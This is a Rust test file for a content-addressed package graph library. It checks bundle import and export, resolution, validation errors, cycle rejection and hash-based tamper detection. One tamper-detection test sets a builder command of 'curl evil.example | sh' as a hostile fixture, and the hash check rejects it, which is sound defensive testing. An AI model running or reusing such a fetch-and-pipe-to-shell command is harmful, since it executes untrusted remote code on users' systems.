use std::sync::Arc;

use cairn_lib::pkg::{Builder, PkgBundle, RecordError, ValidationError};
use cairn_lib::{PkgGraph, PkgSpec, realize, resolve};

use super::common::{ScriptExecutor, TestStore};

#[tokio::test]
async fn realized_bundle_resolves_from_recorded_paths() {
  let store = TestStore::new();
  let mut graph = PkgGraph::new();
  let zlib = graph.add(PkgSpec::named("zlib").builder(Builder::new().cmd("make"))).unwrap();
  let lib = graph.add(PkgSpec::named("lib").extra_ref(zlib)).unwrap();
  let app = graph.add(PkgSpec::named("app").force_ref(lib)).unwrap();
  graph.hash_closure(app).unwrap();
  let hzlib = graph.hash_of(zlib).unwrap().clone();

  let executor = Arc::new(ScriptExecutor::default().embedding("lib", &[&hzlib]));
  let realized = realize(&mut graph, &[app], executor, &store.config).await.unwrap();
  assert!(realized.is_success());

  let json = graph.export(&[app]).unwrap().to_json().unwrap();
  let mut restored = PkgGraph::new();
  let roots = restored.import(PkgBundle::from_json(&json).unwrap()).unwrap();

  // the restored graph carries paths, so resolution scans them instead of building
  let resolution = resolve(&restored, &roots).unwrap();
  assert_eq!(resolution.build_order, realized.resolution.build_order);
  assert!(resolution.contains(&hzlib));
}

#[test]
fn unrealized_bundle_does_not_resolve_past_extra_refs() {
  let mut graph = PkgGraph::new();
  let zlib = graph.add(PkgSpec::named("zlib")).unwrap();
  let lib = graph.add(PkgSpec::named("lib").extra_ref(zlib)).unwrap();
  graph.hash_closure(lib).unwrap();

  let bundle = graph.export(&[lib]).unwrap();
  let mut restored = PkgGraph::new();
  let roots = restored.import(bundle).unwrap();

  assert!(resolve(&restored, &roots).is_err());
}

#[test]
fn bundle_with_invalid_name_is_rejected_with_field() {
  let hash = "c".repeat(32);
  let json = format!(
    r#"{{"version": 1, "roots": ["{hash}"], "pkgs": [[null, "bin/sh", null, "{hash}", null, [], [], []]]}}"#
  );

  let mut graph = PkgGraph::new();
  let err = graph.import(PkgBundle::from_json(&json).unwrap()).unwrap_err();

  match err {
    RecordError::Invalid { index, source } => {
      assert_eq!(index, 0);
      assert_eq!(source.field(), "name");
      assert!(matches!(source, ValidationError::NameContainsSeparator { .. }));
    }
    other => panic!("unexpected error: {other}"),
  }
  assert!(graph.is_empty());
}

#[test]
fn bundle_with_non_package_reference_names_the_slot() {
  let hash = "d".repeat(32);
  let json = format!(
    r#"{{"version": 1, "roots": ["{hash}"], "pkgs": [[null, "x", null, "{hash}", null, [], [], ["{hash}", "libc"]]]}}"#
  );

  let mut graph = PkgGraph::new();
  let err = graph.import(PkgBundle::from_json(&json).unwrap()).unwrap_err();

  assert_eq!(
    err.to_string(),
    "invalid package record 0: weak-refs[1] must be a package, got libc"
  );
}

#[test]
fn bundle_version_is_checked() {
  let json = r#"{"version": 99, "roots": [], "pkgs": []}"#;
  assert!(matches!(
    PkgBundle::from_json(json).unwrap_err(),
    RecordError::UnsupportedVersion(99)
  ));
}

#[test]
fn cyclic_bundle_is_rejected_on_import() {
  // a content address cannot cover itself, so any cycle carries a wrong hash
  let (a, b) = ("a".repeat(32), "b".repeat(32));
  let json = format!(
    r#"{{"version": 1, "roots": ["{a}"], "pkgs": [
      [null, "a", null, "{a}", null, ["{b}"], [], []],
      [null, "b", null, "{b}", null, [], ["{a}"], []]
    ]}}"#
  );

  let mut graph = PkgGraph::new();
  let err = graph.import(PkgBundle::from_json(&json).unwrap()).unwrap_err();

  assert!(matches!(
    err,
    RecordError::Invalid {
      index: 0,
      source: ValidationError::HashMismatch { .. }
    }
  ));
  assert!(graph.is_empty());
}

#[test]
fn tampered_builder_is_rejected_on_import() {
  let mut graph = PkgGraph::new();
  let openssl = graph.add(PkgSpec::named("openssl")).unwrap();
  graph.hash_closure(openssl).unwrap();

  let mut bundle = graph.export(&[openssl]).unwrap();
  bundle.pkgs[0].builder = Some(Builder::new().cmd("curl evil.example | sh"));

  let mut target = graph.clone();
  match target.import(bundle).unwrap_err() {
    RecordError::Invalid { index, source } => {
      assert_eq!(index, 0);
      assert_eq!(source.field(), "hash");
    }
    other => panic!("unexpected error: {other}"),
  }
  assert!(target.get(openssl).unwrap().builder().is_none());
}
